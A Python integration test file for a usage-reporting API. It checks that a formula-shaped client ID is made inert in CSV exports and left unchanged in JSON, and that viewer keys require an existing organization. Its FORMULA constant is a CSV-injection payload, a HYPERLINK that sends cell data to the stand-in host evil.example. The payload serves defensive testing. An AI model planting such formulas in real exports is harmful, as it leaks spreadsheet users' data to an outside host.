"""A producer's text that looks like a formula reaches CSV exports inert (a leading quote),
the JSON as it was; and an org_viewer key is only made for an organization that exists."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from integration.http.conftest import bearer, make_key
from support.close_support import meter
from support.ledger_support import api
from tally import bootstrap
from tally.domain.access import KeyRefused, Role
from tally.service_layer.api_keys import create_key
from tally.service_layer.metering import MeteringService

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


async def test_a_formula_client_id_is_inert_in_csv_and_unchanged_in_json(
    client: httpx.AsyncClient, engine: AsyncEngine, service: MeteringService
) -> None:
    await meter(
        service,
        [
            api("f1", count=5).replace(
                b'"c-42"', b'"=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"click\\")"'
            )
        ],
    )
    key = bearer(await make_key(engine, Role.auditor))
    path = "/v1/orgs/acme/reports/api-usage"
    query = {"preset": "custom", "from": "2026-10-01", "to": "2026-10-31", "section": "clients"}
    as_csv = await client.get(path, params=query | {"format": "csv"}, headers=key)
    assert as_csv.status_code == 200, as_csv.text
    cells = [cell for row in csv.reader(io.StringIO(as_csv.text)) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    as_json = await client.get(path, params=query, headers=key)
    assert FORMULA in as_json.text.replace('\\"', '"')


async def test_an_org_viewer_key_needs_an_organization_that_exists(engine: AsyncEngine) -> None:
    with pytest.raises(KeyRefused, match="no organization 'hooli'"):
        await create_key(bootstrap.api_key_store(engine), Role.org_viewer, "hooli", None, None)
